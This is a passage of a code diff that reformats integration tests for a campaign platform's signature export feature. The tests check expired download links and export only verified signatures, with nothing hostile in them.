     const gone = await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(410);
     expect(gone.text).toContain('removed 24 hours after');
@@ -550,15 +799,28 @@ describe('a large signature export (a job, into a file)', () => {
 
 describe('a campaign that requires confirmed signatures', () => {
   test('exports only the confirmed ones', async () => {
-    await t.platform.db.execute(sql`UPDATE campaigns SET require_verification = true WHERE id = ${campaignId}`);
-    await t.platform.db.execute(sql`UPDATE signatures SET verified_at = now() WHERE campaign_id = ${campaignId} 
+    await t.platform.db.execute(
+      sql`UPDATE campaigns SET require_verification = true WHERE id = ${campaignId}`,
+    );
+    await t.platform.db
+      .execute(sql`UPDATE signatures SET verified_at = now() WHERE campaign_id = ${campaignId} 
       AND email_hash IN (${t.platform.encryption.emailHash('ida@example.org')}::bytea, ${t.platform.encryption.emailHash('grace@example.org')}::bytea)`);
     try {
       const { agent, token } = await signInAs(t.app, t.platform.db, 'organizer');
-      const answer = await agent.post(exportsPage).type('form').send({ _csrf: token, kind: 'signatures' }).expect(200);
-      expect(parseCsv(answer.text).map((row) => row.zip).sort()).toEqual(['20001', '99501']);
+      const answer = await agent
+        .post(exportsPage)
+        .type('form')
+        .send({ _csrf: token, kind: 'signatures' })
+        .expect(200);
+      expect(
+        parseCsv(answer.text)
+          .map((row) => row.zip)
+          .sort(),
+      ).toEqual(['20001', '99501']);
     } finally {
-      await t.platform.db.execute(sql`UPDATE campaigns SET require_verification = false WHERE id = ${campaignId}`);
+      await t.platform.db.execute(
+        sql`UPDATE campaigns SET require_verification = false WHERE id = ${campaignId}`,
+      );
     }
   });
 });
